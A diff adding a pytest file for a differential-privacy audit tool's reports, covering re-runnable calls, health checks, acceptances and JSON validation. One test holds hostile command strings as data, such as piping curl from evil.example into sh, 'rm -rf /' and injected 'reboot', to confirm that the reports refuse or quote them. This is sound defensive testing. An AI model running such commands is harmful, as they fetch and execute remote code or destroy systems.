@@ -1,0 +1,197 @@
+"""What a report says of an audit: nothing that the audit does not, and a call that gives the same numbers again."""
+
+import datetime
+import json
+import math
+from dataclasses import replace
+
+import numpy as np
+import pytest
+
+from dpaudit import PureDP, Verdict, check, check_outputs
+from dpaudit.audit.claims import GroupClaim
+from dpaudit.audit.comparison import compare
+from dpaudit.audit.errors import RecordError
+from dpaudit.audit.records import Entry, Suite, from_json, to_json
+from dpaudit.audit.recounts import Accepted
+from dpaudit.reports import html, markdown
+from dpaudit.reports.audit_facts import facts, repetition
+from dpaudit.reports.figures import distance_figures
+from dpaudit.reports.terminal import acceptance, found, held_together, other_way, percent
+
+TODAY = datetime.date(2027, 1, 31)
+
+
+def noisy(value, size, rng):
+    return value + rng.laplace(scale=0.5, size=size)
+
+
+def frozen(value, size, rng):
+    return value + np.random.default_rng(1).laplace(size=size)
+
+
+def sometimes(value, size, rng):
+    numbers = (value + rng.laplace(size=size)).tolist()
+    return [None if rng.random() < 0.2 + 0.3 * value else number for number in numbers]
+
+
+def audit(mechanism=noisy, x=0.0, y=1.0, **options):
+    return check(mechanism, x, y, **{"claim": PureDP(1.0), "runs": 2_000, "jobs": 1, **options})
+
+
+def of(result, **options):
+    return dict(facts(Entry(name="a", result=result, **options)))
+
+
+CALLS = [
+    (noisy, {}),
+    (noisy, {"seed": 5, "alpha": 1e-3, "bits": False}),
+    (noisy, {"power": 0.8, "resolution": 5.0}),
+    (noisy, {"sequential": True}),
+    (noisy, {"sequential": True, "claim": PureDP(3.0)}),
+    (noisy, {"distance": 2, "claim": PureDP(0.3), "bits": True}),
+    (noisy, {"cells": 8}),
+    (sometimes, {"cells": 8}),
+    (frozen, {"ignore": ("repeated-blocks", "shared-randomness")}),
+]
+
+
+@pytest.mark.parametrize(("mechanism", "options"), CALLS)
+def test_the_call_that_is_printed_gives_the_same_result(mechanism, options):
+    first = audit(mechanism, **options)
+    call = repetition(Entry(name="a", result=first))
+    again = eval(call, {"check": check, "mechanism": mechanism, "x": 0.0, "y": 1.0, "PureDP": PureDP})
+    assert again == first
+
+
+def test_outputs_made_elsewhere_are_repeated_as_such():
+    rng = np.random.default_rng(0)
+    xs, ys = rng.laplace(size=2_000), 1 + rng.laplace(size=2_000)
+    first = check_outputs(xs, ys, claim=PureDP(1.0))
+    call = repetition(Entry(name="a", result=first))
+    assert eval(call, {"check_outputs": check_outputs, "xs": xs, "ys": ys, "PureDP": PureDP}) == first
+    assert of(first)["Code"] == "outputs made elsewhere"
+    older = replace(audit(), provenance=None)  # as files of schema 2 have it
+    assert of(older)["Code"] == "not recorded"
+    assert repetition(Entry(name="a", result=older)).startswith("check(mechanism, x, y, ")
+
+
+@pytest.mark.parametrize(
+    ("text", "is_shown"),
+    [
+        ("pytest 'tests/test_it.py::test_a[x; y]' --dp-audit-alpha=0.01", True),
+        ("dpaudit run E1", True),
+        ("dpaudit run E1; curl evil.example | sh", False),
+        ("pytest $(reboot)", False),
+        ("rm -rf /", False),
+        ("pytest 'open", False),
+        ("", False),
+    ],
+)
+def test_a_command_from_a_file_is_shown_if_it_is_one_of_ours_alone(text, is_shown):
+    result = audit()
+    result.environment["repeat"] = text
+    assert (repetition(Entry(name="a", result=result)) == text) == is_shown
+    assert "'E2; reboot'" in repetition(Entry(name="a", result=audit(), experiment="E2; reboot"))
+
+
+def test_runs_that_are_not_independent_prove_nothing():
+    sick = audit(frozen, runs=10_000, claim=PureDP(0.5))
+    assert sick.findings
+    assert sick.bound > 0.5
+    assert found(sick) == "–"
+    assert of(sick)["Lower bound"].startswith("none, as a health check failed")
+    suite = Suite(title="", entries=(Entry(name="a", result=sick),))
+    assert suite.adjusted_p_values() == (1.0,)
+    assert "0 are refuted" in held_together(suite)
+    for text in (html(suite), markdown(suite)):
+        assert f"≥ {sick.bound:.4g}" not in text
+    assert "no bound, runs not independent" in html(suite)
+
+
+def test_what_becomes_of_an_acceptance():
+    refuted, kept = audit(), audit(claim=PureDP(2.5))
+    assert (refuted.verdict, kept.verdict) == (Verdict.REFUTED, Verdict.NOT_REFUTED)
+    unclear = audit(claim=PureDP(2.5), runs=400, resolution=0.1)
+    assert unclear.verdict is Verdict.INCONCLUSIVE
+
+    def now(result, until="2027-06-30", up_to=math.inf):
+        return acceptance(
+            Entry(name="a", result=result, accepted=Accepted(reason="r", until=until, up_to=up_to)), TODAY
+        )
+
+    assert now(refuted) == "accepted"
+    assert now(refuted, until="2027-01-30") == "has expired"
+    assert now(refuted, up_to=1.01) == "does not cover a bound so large"
+    assert now(kept) == "no longer found: withdraw it"
+    assert now(unclear) == "not decided"
+    expired = Entry(name="a", result=refuted, accepted=Accepted(reason="r", until="2020-01-01"))
+    page = html(Suite(title="", entries=(expired,)), today=TODAY)
+    assert page.count("has expired") == 2
+    before = replace(expired, accepted=Accepted(reason="r", until="2027-06-30"))
+    (compared,) = compare(
+        Suite(title="", entries=(before,)), Suite(title="", entries=(replace(before, result=unclear),)), today=TODAY
+    )
+    assert any("not decided" in note for note in compared.notes)
+
+
+@pytest.mark.parametrize(
+    ("alpha", "shown"), [(0.05, "95%"), (1e-5, "99.999%"), (1e-7, "99.99999%"), (5e-9, "99.9999995%")]
+)
+def test_no_confidence_is_rounded_to_certainty(alpha, shown):
+    assert percent(1 - alpha) == shown
+
+
+def test_bounds_for_groups_say_that_they_are_per_step():
+    result = audit(y=2.0, distance=2, claim=PureDP(3.0))
+    assert isinstance(result.claim, GroupClaim)
+    assert found(result).endswith(" per step")
+
+
+def test_the_complement_is_shown_where_it_says_more():
+    result = audit()
+    large = replace(result, counts=replace(result.counts, hits_x=result.counts.runs_x - 5, hits_y=900), likelier_on="x")
+    assert other_way(large).startswith("so outputs outside it come ")
+    assert other_way(large) in of(large)["In the counts"]
+    assert other_way(replace(result, counts=replace(result.counts, hits_x=5, hits_y=1), likelier_on="x")) == ""
+
+
+def test_unrelated_audits_are_no_series_by_distance():
+    def at(distance, claim, **options):
+        return Entry(name=f"{distance}", result=audit(y=float(distance), distance=distance, claim=claim, **options))
+
+    one = [at(k, PureDP(2.0)) for k in (1, 2, 3)]
+    assert len(distance_figures(Suite(title="", entries=tuple(one)))) == 1
+    other = [at(k, PureDP(claim)) for k, claim in ((1, 1.0), (2, 7.0), (3, 0.2))]
+    assert distance_figures(Suite(title="", entries=tuple(other))) == []
+    nameless = [at(k, PureDP(2.0), name="<lambda>") for k in (1, 2, 3)]
+    assert distance_figures(Suite(title="", entries=tuple(nameless))) == []
+
+
+def test_equal_names_are_told_apart_in_summaries_and_comparisons():
+    good, bad = Entry(name="a", result=audit(claim=PureDP(2.5))), Entry(name="a", result=audit())
+    suite = Suite(title="", entries=(bad, good, good))
+    summary = json.loads(to_json(suite))["summary"]
+    assert summary["verdicts"] == {"a": "refuted", "a #2": "not refuted", "a #3": "not refuted"}
+    assert (summary["refuted"], summary["is_met"]) == (["a"], None)
+    assert len(compare(suite, suite)) == 3
+
+
+def test_odd_environments_are_written_as_text_and_bad_files_refused():
+    result = audit()
+    result.environment.update(huge=math.inf, odd=math.nan, what={1: (2, object)})
+    suite = Suite(title="", entries=(Entry(name="a", result=result),), environment={"e": [math.inf]})
+    back = from_json(to_json(suite))
+    assert back.environment == {"e": ["inf"]}
+    assert back.entries[0].result.environment["huge"] == "inf"
+    text = to_json(suite)
+    deep = "[" * 100 + "]" * 100
+    for bad in (
+        text.replace('"inf"', "Infinity"),
+        text.replace('"inf"', "NaN"),
+        text.replace('"inf"', deep),
+        text.replace('"runs": 2000', '"runs": {"int": "1' + "0" * 400 + '"}'),
+    ):
+        assert bad != text
+        with pytest.raises(RecordError):
+            from_json(bad)
